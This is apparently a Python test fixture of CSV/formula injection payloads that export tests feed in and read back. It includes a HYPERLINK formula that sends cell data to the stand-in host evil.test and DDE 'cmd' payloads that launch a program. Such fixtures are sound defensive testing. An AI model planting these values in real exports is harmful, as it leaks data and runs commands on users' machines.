"""Values an attacker types where a spreadsheet will later read them (OWASP "CSV injection"):
every export test feeds these and reads the file back."""

HOSTILE = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
